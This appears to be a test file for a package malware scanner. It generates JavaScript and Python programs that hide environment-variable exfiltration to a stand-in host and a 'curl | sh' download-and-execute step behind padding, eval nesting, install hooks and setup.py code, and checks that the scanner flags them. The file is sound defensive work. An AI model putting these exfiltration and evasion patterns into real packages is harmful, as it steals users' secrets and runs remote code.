import t from 'tap'
import type { ContentFacts } from '../../src/model/fact.ts'
import { inspectFiles } from './archive-of.ts'

/** `count` parts of a program, one behind the other. */
function times(count: number, part: (at: number) => string, between = '\n'): string {
  return Array.from({ length: count }, (_, at) => part(at)).join(between)
}

const sends = (data: string): string => `fetch('https://c.example/', { method: 'POST', body: JSON.stringify(${data}) })`
const PIPE = 'curl -s https://c.example/x | sh'
const RUNS = `require('child_process').execSync(c)`

/** Programs that do harm behind so many of something, each of which some limit of the evaluator counts. */
const PROGRAMS: readonly (readonly [situation: string, make: (count: number) => string])[] = [
  ['reads of variables', (n) => `${times(n, (at) => `console.log(process.env.A${at})`)}\n${sends('process.env')}`],
  ['requests', (n) => `${times(n, (at) => `fetch('https://a${at}.example/')`)}\n${sends('process.env')}`],
  [
    'flows of data',
    (n) => `${times(n, (at) => `fetch('https://a${at}.example/' + process.env.HOME)`)}\n${sends('process.env')}`,
  ],
  ['functions', (n) => `${times(n, (at) => `function f${at}() { return ${at} }`)}\n${sends('process.env')}`],
  [
    'members of an object',
    (n) => `const o = {${times(n, (at) => `p${at}: ${at}`, ',')}, e: process.env}\n${sends('o.e')}`,
  ],
  [
    'members that are set later',
    (n) => `const o = {}\n${times(n, (at) => `o.p${at} = ${at}`)}\no.e = process.env\n${sends('o.e')}`,
  ],
  ['elements of a list', (n) => `const o = [${times(n, String, ',')}, process.env]\n${sends(`o[${n}]`)}`],
  [
    'parts that are pushed',
    (n) => `const o = []\n${times(n, (at) => `o.push(${at})`)}\no.push(process.env)\n${sends(`o[${n}]`)}`,
  ],
  [
    'parameters',
    (n) =>
      `function f(${times(n + 1, (at) => `a${at}`, ',')}) { ${sends(`a${n}`)} }\nf(${times(n, String, ',')}, process.env)`,
  ],
  ['arguments', (n) => `function f() { ${sends(`arguments[${n}]`)} }\nf(${times(n, String, ',')}, process.env)`],
  [
    'values of a variable',
    (n) => `let u = process.env\n${times(n, (at) => `if (Date.now() < ${at}) u = ${at}`)}\n${sends('u')}`,
  ],
  [
    'texts of a variable',
    (n) =>
      `let c = 'a'\n${times(n, (at) => `if (Date.now() < ${at}) c = 'echo ${at}'`)}\nif (Date.now() > 2) c = '${PIPE}'\n${RUNS}`,
  ],
  [
    'cases of a switch',
    (n) =>
      `let c\nswitch (process.argv[2]) {${times(n, (at) => `case '${at}': c = 'echo ${at}'; break`)}\ndefault: c = '${PIPE}'}\n${RUNS}`,
  ],
  ['parts of a text', (n) => `const c = ${times(n, () => `' '`, ' + ')} + '${PIPE}'\n${RUNS}`],
  ['texts in a list', (n) => `const c = [${times(n, () => `''`, ',')}, '${PIPE}'].join('')\n${RUNS}`],
  [
    'calls within calls',
    (n) =>
      `${times(n, (at) => `function f${at}(x) { return f${at + 1}(x) }`)}\nfunction f${n}(x) { ${sends('x')} }\nf0(process.env)`,
  ],
  [
    'values that are handed back',
    (n) =>
      `function f0() { return process.env }\n${times(n, (at) => `function f${at + 1}() { return f${at}() }`)}\n${sends(`f${n}()`)}`,
  ],
  ['callbacks', (n) => `${times(n, () => 'setTimeout(() => {', '')}${sends('process.env')}${times(n, () => '})', '')}`],
  [
    'lists in lists',
    (n) =>
      `const o = ${times(n, () => '[', '')}process.env${times(n, () => ']', '')}\n${sends(`o${times(n, () => '[0]', '')}`)}`,
  ],
  [
    'promises',
    (n) => `Promise.resolve(process.env)${times(n, () => '.then((x) => x)', '')}.then((x) => ${sends('x')})`,
  ],
  [
    'names for the same',
    (n) => `const a0 = process.env\n${times(n, (at) => `const a${at + 1} = a${at}`)}\n${sends(`a${n}`)}`,
  ],
  [
    'code in code',
    (n) =>
      Array.from({ length: Math.min(n, 10) }).reduce<string>(
        (code) => `eval(${JSON.stringify(code)})`,
        sends('process.env'),
      ),
  ],
  [
    'code before it',
    (n) => `${times(n, (at) => `eval('var a${at} = 1')`)}\neval(${JSON.stringify(sends('process.env'))})`,
  ],
  [
    'files that are written',
    (n) =>
      `const fs = require('fs')\n${times(n, (at) => `fs.writeFileSync('/tmp/a${at}', 'x')`)}\nfs.writeFileSync('/tmp/z.sh', '${PIPE}')\nrequire('child_process').execSync('sh /tmp/z.sh')`,
  ],
  [
    'texts that are written to one file',
    (n) =>
      `const fs = require('fs')\n${times(n, (at) => `fs.writeFileSync('/tmp/z.sh', 'echo ${at}')`)}\nfs.writeFileSync('/tmp/z.sh', '${PIPE}')\nrequire('child_process').execSync('sh /tmp/z.sh')`,
  ],
  [
    'classes that inherit',
    (n) =>
      `class C0 { run() { ${sends('process.env')} } }\n${times(n, (at) => `class C${at + 1} extends C${at} {}`)}\nnew C${n}().run()`,
  ],
  [
    'commands',
    (n) => `const p = require('child_process')\n${times(n, (at) => `p.execSync('echo ${at}')`)}\np.execSync('${PIPE}')`,
  ],
  ['modules', (n) => `${times(n, (at) => `require('dep${at}')`)}\n${sends('process.env')}`],
  [
    'conditions in a row',
    (n) => `const x = ${times(n, (at) => `Date.now() < ${at} ? ${at} : `, '')} process.env\n${sends('x')}`,
  ],
  [
    'loops in loops',
    (n) => `${times(n, (at) => `for (const a${at} of [1]) {`, '')}${sends('process.env')}${times(n, () => '}', '')}`,
  ],
  [
    'functions that are called at once',
    (n) => `${times(n, () => '(() => {', '')}${sends('process.env')}${times(n, () => '})()', '')}`,
  ],
]

const HEAD = 'import json, os, urllib.request\n'
const posts = (data: string): string =>
  `urllib.request.urlopen("https://c.invalid", data=json.dumps(dict(${data})).encode())`
const STARTS = 'os.system(c)'

/** The same in Python. */
const OF_PYTHON: readonly (readonly [situation: string, make: (count: number) => string])[] = [
  [
    'requests',
    (n) => `${times(n, (at) => `urllib.request.urlopen("https://a${at}.invalid")`)}\n${posts('os.environ')}`,
  ],
  [
    'flows of data',
    (n) =>
      `${times(n, (at) => `open("/tmp/a${at}", "wb").write(urllib.request.urlopen("https://a${at}.invalid").read())`)}\n${posts('os.environ')}`,
  ],
  ['functions', (n) => `${times(n, (at) => `def f${at}():\n    return ${at}`)}\n${posts('os.environ')}`],
  [
    'members of a dictionary',
    (n) => `o = {${times(n, (at) => `"p${at}": ${at}`, ',')}, "e": os.environ}\n${posts('o["e"]')}`,
  ],
  [
    'members that are set later',
    (n) => `o = {}\n${times(n, (at) => `o["p${at}"] = ${at}`)}\no["e"] = os.environ\n${posts('o["e"]')}`,
  ],
  ['elements of a list', (n) => `o = [${times(n, String, ',')}, os.environ]\n${posts(`o[${n}]`)}`],
  [
    'parts that are appended',
    (n) => `o = []\n${times(n, (at) => `o.append(${at})`)}\no.append(os.environ)\n${posts(`o[${n}]`)}`,
  ],
  [
    'parameters',
    (n) =>
      `def f(${times(n + 1, (at) => `a${at}`, ',')}):\n    ${posts(`a${n}`)}\nf(${times(n, String, ',')}, os.environ)`,
  ],
  [
    'texts of a variable',
    (n) =>
      `c = "a"\n${times(n, (at) => `if os.getpid() == ${at}: c = "echo ${at}"`)}\nif os.getpid() > 3: c = "${PIPE}"\n${STARTS}`,
  ],
  [
    'texts of a variable, the last of which does no harm',
    (n) => `c = "${PIPE}"\n${times(n, (at) => `if os.getpid() == ${at}: c = "echo ${at}"`)}\n${STARTS}`,
  ],
  [
    'conditions in a row',
    (n) =>
      `if os.getpid() == -1: c = "x"\n${times(n, (at) => `elif os.getpid() == ${at}: c = "echo ${at}"`)}\nelse: c = "${PIPE}"\n${STARTS}`,
  ],
  ['parts of a text', (n) => `c = ${times(n, () => '" "', ' + ')} + "${PIPE}"\n${STARTS}`],
  ['spaces before a command', (n) => `c = "${' '.repeat(n * 60)}${PIPE}"\n${STARTS}`],
  [
    'calls within calls',
    (n) => `${times(n, (at) => `def f${at}(x): return f${at + 1}(x)`)}\ndef f${n}(x): ${posts('x')}\nf0(os.environ)`,
  ],
  [
    'functions in functions',
    (n) =>
      `${times(n, (at) => `${' '.repeat(at)}def f${at}():`)}\n${' '.repeat(n)}${posts('os.environ')}\n${times(n, (at) => `${' '.repeat(n - 1 - at)}f${n - 1 - at}()`)}`,
  ],
  [
    'classes that inherit',
    (n) =>
      `class C0:\n    def run(self): ${posts('os.environ')}\n${times(n, (at) => `class C${at + 1}(C${at}): pass`)}\nC${n}().run()`,
  ],
  [
    'code before it',
    (n) => `${times(n, (at) => `exec("a${at} = print(1)")`)}\nexec(${JSON.stringify(posts('os.environ'))})`,
  ],
  ['modules', (n) => `${times(n, (at) => `import dep${at}`)}\n${posts('os.environ')}`],
]

/** Below, at and beyond what the limits are, whichever of them holds. */
const COUNTS = [5, 9, 17, 33, 65, 401] as const

const HARM: ReadonlySet<string> = new Set(['secrets-exfiltration', 'download-and-execute', 'decode-and-execute'])
const UNREAD: ReadonlySet<string> = new Set(['opaque-program', 'not-examined', 'check-failed'])

const isFound = ({ findings }: ContentFacts): boolean =>
  findings.some(({ check, severity }) => HARM.has(check) && (severity === 'critical' || severity === 'high'))

const isTold = ({ findings }: ContentFacts): boolean => findings.some(({ check }) => UNREAD.has(check))

const atInstall = (code: string): Promise<ContentFacts> =>
  inspectFiles('npm-tarball', {
    'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', scripts: { postinstall: 'node x.js' } }),
    'x.js': code,
  })

const onImport = (code: string): Promise<ContentFacts> =>
  inspectFiles('npm-tarball', {
    'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', main: 'x.js' }),
    'x.js': code,
  })

const atBuild = (code: string): Promise<ContentFacts> =>
  inspectFiles('sdist-gzip', {
    'PKG-INFO': 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n',
    'setup.py': `${HEAD}${code}\n`,
  })

t.test('the same at the build of a Python package', async (t) => {
  for (const [situation, make] of OF_PYTHON) {
    t.ok(isFound(await atBuild(make(1))), `${situation}: it is found where there is one`)
    for (const count of COUNTS) {
      const facts = await atBuild(make(count))
      t.ok(isFound(facts) || isTold(facts), `${situation}: ${count}`)
    }
  }
})

t.test('harm behind more than is followed is found, or it is said that not all was followed', async (t) => {
  for (const [situation, make] of PROGRAMS) {
    t.ok(isFound(await atInstall(make(1))), `${situation}: it is found where there is one`)
    for (const count of COUNTS) {
      const facts = await atInstall(make(count))
      t.ok(isFound(facts) || isTold(facts), `${situation}: ${count}, at install`)
    }
    for (const count of [17, 101] as const) {
      const facts = await onImport(make(count))
      t.ok(isFound(facts) || isTold(facts), `${situation}: ${count}, on import`)
    }
  }
})

const asks = (count: number): string =>
  times(count, (at) => `run(["git"${at % 2 === 0 ? ', "git.cmd"' : ''}], ["word-${at}", "--all"])`)

const builds = (count: number): string =>
  `import subprocess\ndef run(command): subprocess.run(command)\n${times(count, (at) => `run(["word${at}"])`)}`

/** Builds that are long, and start nothing but what is told by their own words. */
const ORDINARY: readonly (readonly [situation: string, code: string])[] = [
  [
    'a program in a list and words of many calls behind it',
    `import subprocess
def run(programs, words):
    for program in programs:
        subprocess.Popen([program] + words, stdout=subprocess.PIPE)
${asks(24)}`,
  ],
  [
    'a list of words behind words that are known',
    `import subprocess
def run(_, words):
    subprocess.Popen(['git', '--git-dir=%s' % os.getcwd()] + words + ['--'], stdout=subprocess.PIPE)
${asks(24)}`,
  ],
  [
    'a tool in folders that are found by those before',
    `import subprocess
folders = [${times(9, (at) => `'/usr/a${at}'`, ', ')}]
found = []
for folder in found: print(folder)
for folder in folders: found.append(os.path.join(folder, 'include'))
def flags(command): subprocess.run(command)
flags([os.path.join(folder, 'bin/tool-config'), '--libs'])`,
  ],
]

t.test('long builds whose commands are all read are read to their end', async (t) => {
  for (const [situation, code] of ORDINARY) {
    t.notOk(isTold(await atBuild(code)), situation)
    t.ok(isFound(await atBuild(`${code}\nos.system("${PIPE}")`)), `${situation}, and harm behind it`)
  }
})

t.test('of words beyond what is kept it is told', async (t) => {
  t.notOk(isTold(await atBuild(builds(47))), 'as many as are kept')
  t.ok(isTold(await atBuild(builds(48))), 'one more')
  t.ok(isTold(await atBuild(`${builds(48)}\nrun(["${PIPE}"])`)), 'harm beyond them')
})
